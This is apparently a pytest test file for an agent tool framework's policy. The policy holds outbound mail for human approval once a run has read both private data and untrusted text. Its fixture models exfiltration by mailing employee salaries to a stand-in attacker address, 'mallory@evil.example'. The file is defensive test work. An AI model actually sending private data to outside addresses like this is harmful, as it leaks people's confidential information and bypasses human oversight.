"""``RunLabels``: a run that has read private data and what strangers wrote sends nothing out without a person."""

import asyncio
import itertools
from pathlib import Path
from typing import Any

import pytest

from app.worlds import World, asked, code
from callwright import Callwright, Principal, Rule, ToolResult
from callwright.policy import PolicyCall, PolicyContext, RunLabels
from callwright.ports import StoreError
from callwright.stores import MemoryStore
from callwright.testing import FakeClock

pytestmark = pytest.mark.promise("T06")

LENA = Principal("lena", roles=("lead",))
READS = ("read_mail", "read_salaries")
LETTER = {"to": "mallory@evil.example", "text": "Ann 71000, Bob 64000"}


def office(world: World, labels: RunLabels, **options: Any) -> Callwright:
    app = Callwright(rules=[Rule("allow")], policy=labels, **options)

    @app.tool(effect="read", untrusted=True)
    def read_mail() -> str:
        """Read the newest mail."""
        return "Invoice 17, 90 euros, due on Friday."

    @app.tool(effect="read")
    def read_salaries() -> dict[str, int]:
        """Read the salaries of all employees."""
        return {"Ann": 71_000, "Bob": 64_000}

    @app.tool(effect="read")
    def read_calendar() -> str:
        """Read the calendar."""
        return "Friday: review"

    @app.tool(effect="once", sinks=["to"])
    def send_mail(to: str, text: str) -> dict[str, Any]:
        """Send a mail."""
        return world.do(("mail", to, text))

    @app.tool(effect="once")
    def note(text: str) -> dict[str, Any]:
        """Write a note that stays here."""
        return world.do(("note", text))

    return app


def labels() -> RunLabels:
    return RunLabels(private=["read_salaries"])


def run(app: Callwright, *names: str, run_id: str | None = "r") -> ToolResult:
    """Make these calls in one run; gives the result of the last."""
    results = [app.call(asked(one, **(LETTER if one == "send_mail" else {})), run=run_id) for one in names]
    return results[-1]


@pytest.mark.parametrize("order", list(itertools.permutations((*READS, "send_mail"))), ids="-".join)
def test_t06_private_data_and_strangers_text_let_no_call_send_before_a_person_has_looked(
    order: tuple[str, ...],
) -> None:
    world = World()
    with office(world, labels()) as app:
        run(app, *order)
        sent_first = order.index("send_mail") < 2
        assert (len(world), len(app.store.list_approvals())) == ((1, 0) if sent_first else (0, 1))


def test_t06_who_approves_sees_what_the_run_has_read_and_the_approved_call_is_made_once() -> None:
    world = World()
    with office(world, labels()) as app:
        assert code(run(app, *READS, "send_mail")) == "approval_required"
        (waiting,) = app.store.list_approvals()
        assert waiting.terms.rule == (
            "policy: this run read private data (read_salaries) and text of strangers (read_mail)"
        )
        assert app.approve(waiting.handle, by=LENA)
        assert run(app, "send_mail").success
    assert world.done == [("mail", LETTER["to"], LETTER["text"])]


@pytest.mark.parametrize(
    "names",
    [
        ("send_mail",),
        ("read_mail", "send_mail"),
        ("read_salaries", "send_mail"),
        ("read_calendar", "send_mail"),
    ],
)
def test_t06_ordinary_work_that_reads_only_one_of_both_sends_unasked(names: tuple[str, ...]) -> None:
    world = World()
    with office(world, labels()) as app:
        assert run(app, *names).success
    assert len(world) == 1


def test_t06_what_does_not_leave_is_not_asked_about_and_another_run_and_tenant_are_not_concerned() -> None:
    world = World()
    with office(world, labels()) as app:
        run(app, *READS)
        assert app.call(asked("note", text="x"), run="r").success
        assert run(app, "send_mail", run_id="another").success
        other = Principal("local", "rival")
        assert app.call(asked("send_mail", **LETTER), run="r", principal=other).success
        assert code(run(app, "send_mail")) == "approval_required"


def test_t06_a_rehearsed_read_leaves_no_label() -> None:
    world = World()
    with office(world, labels()) as app:
        for name in READS:
            app.call(asked(name), run="r", dry_run=True)
        assert run(app, "send_mail").success


def test_t06_the_labels_of_a_run_outlive_the_process_and_end_with_their_time(tmp_path: Path) -> None:
    world, clock, store = World(), FakeClock(), tmp_path / "office.db"
    with office(world, labels(), store=store, clock=clock) as app:
        run(app, "read_salaries")
    with office(world, labels(), store=store, clock=clock) as app:
        run(app, "read_mail")
    with office(world, labels(), store=store, clock=clock) as app:
        assert code(run(app, "send_mail")) == "approval_required"
        clock.advance(RunLabels.DEFAULT_KEPT_S * 1000 + 1)
        assert code(run(app, "send_mail")) != "approval_required"
        assert code(run(app, *READS, "send_mail", run_id="r")) != "approval_required", (
            "the same call was made"
        )
        run(app, *READS)
        other = {**LETTER, "text": "another"}
        assert code(app.call(asked("send_mail", **other), run="r")) == "approval_required"


def test_t06_calls_without_a_run_share_the_labels_of_their_principal() -> None:
    world = World()
    with office(world, labels()) as app:
        assert code(run(app, *READS, "send_mail", run_id=None)) == "approval_required"
        ann = Principal("ann")
        assert app.call(asked("send_mail", **LETTER), principal=ann).success


def test_t06_names_that_are_given_stand_in_place_of_what_contracts_declare() -> None:
    world = World()
    own = RunLabels(private=["read_s*"], untrusted=["read_calendar"], sends=["note"], verdict="deny")
    with office(world, own) as app:
        assert run(app, *READS, "send_mail").success
        assert app.call(asked("note", text="x"), run="r").success
        run(app, "read_calendar")
        assert code(app.call(asked("note", text="y"), run="r")) == "permission_denied"
        assert run(app, "send_mail", run_id="r2").success


def test_t06_asynchronous_calls_that_run_together_are_held_too() -> None:
    world = World()

    async def go() -> None:
        with office(world, labels()) as app:
            await asyncio.gather(*(app.acall(asked(one), run="r") for one in READS))
            assert code(await app.acall(asked("send_mail", **LETTER), run="r")) == "approval_required"

    asyncio.run(go())
    assert world.done == []


class Broken(MemoryStore):
    """A store whose small records cannot be reached."""

    def put_record(self, *_: Any, **__: Any) -> bool:
        raise StoreError("locked")

    def get_records(self, *_: Any, **__: Any) -> dict[str, bytes]:
        raise StoreError("locked")


def test_t06_without_its_store_what_is_labelled_and_what_sends_is_denied_and_nothing_else() -> None:
    world, clock = World(), FakeClock()
    with office(world, labels(), store=Broken(clock), clock=clock) as app:
        ends = [code(run(app, one)) for one in ("read_salaries", "send_mail", "read_calendar")]
    assert ends == ["permission_denied", "permission_denied", None]
    assert world.done == []


def test_t06_it_can_be_asked_within_a_policy_of_ones_own() -> None:
    world, own = World(), labels()

    def policy(call: PolicyCall, arguments: dict[str, Any], context: PolicyContext) -> Any:
        return "deny" if call.tool == "note" else own(call, arguments, context)

    with office(world, policy) as app:  # type: ignore[arg-type] # a policy function in its place
        assert code(run(app, *READS, "send_mail")) == "approval_required"
        assert code(app.call(asked("note", text="x"), run="r")) == "permission_denied"


@pytest.mark.parametrize("wrong", [{"private": 7}, {"private": []}, {"private": ["a"], "verdict": "allow"}])
def test_wrong_settings_are_refused(wrong: dict[str, Any]) -> None:
    with pytest.raises((TypeError, ValueError)):
        RunLabels(**wrong)
